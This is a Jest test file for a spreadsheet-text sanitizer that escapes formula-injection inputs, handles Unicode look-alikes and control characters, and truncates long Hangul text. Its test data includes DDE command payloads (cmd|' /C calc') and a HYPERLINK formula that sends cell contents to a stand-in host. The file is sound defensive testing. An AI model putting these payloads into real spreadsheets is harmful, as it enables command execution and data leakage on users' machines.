import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { cellText, textOfCell } from '../../src/domain/spreadsheet-text.js';

/** What was written by somebody who means harm, and what stands in the cell. */
export const attacks: [text: string, cell: string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://x.example?"&A1,"점수 확인")', `'=HYPERLINK("http://x.example?"&A1,"점수 확인")`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(1+1)*cmd|…', "'@SUM(1+1)*cmd|…"],
  ['\t=1+1', "' =1+1"],
  ['\r=1+1', "'\n=1+1"],
  ['\n=1+1', "'\n=1+1"],
  ['  =1+1', "'  =1+1"],
  ['\u00a0=1+1', "'\u00a0=1+1"],
  ['\u200b=1+1', "'\u200b=1+1"],
  ['\ufeff=1+1', "'\ufeff=1+1"],
  ['\0=1+1', "'=1+1"],
  ['\u001f=1+1', "'=1+1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  ['﹦1+1', "'﹦1+1"],
  ['\u22121', "'\u22121"],
  ["'=1+1", "''=1+1"],
];

test.each(attacks)('%j stands as %j, and is read back as it was printed', (text, cell) => {
  expect(cellText(text)).toBe(cell);
  expect(textOfCell(cell)).toBe(cell.slice(1));
});

test.each(['침수 예측', '1+1=2', 'a=b', "'따옴표'", '', '~ 2025-10-11', '=이 아닌 것'.slice(1)])('%j is left alone', (text) => {
  expect([cellText(text), textOfCell(text)]).toEqual([text, text]);
});

test('what no cell can hold is left out, what is longer is cut between two letters, and Hangul is composed', () => {
  expect(cellText('가\0나\u0008다\ud800라\uffff')).toBe('가나다라');
  expect(cellText('가'.normalize('NFD'))).toBe('가');
  expect(cellText('가'.repeat(32_767))).toHaveLength(32_767);
  const cut = cellText(`${'가'.repeat(32_765)}😀나`);
  expect([cut.length, cut.slice(-2)]).toEqual([32_766, '가…']);
});

test('any text that can be printed comes back', () => {
  const starts = fc.constantFrom('', '=', "'", "''=", '-', ' +', '@');
  fc.assert(
    fc.property(starts, fc.string({ unit: 'grapheme', maxLength: 40 }), (start, rest) => {
      const text = `${start}${rest}`.normalize('NFC').replace(/\p{Control}/gu, '');
      expect(textOfCell(cellText(text))).toBe(text);
    }),
  );
});
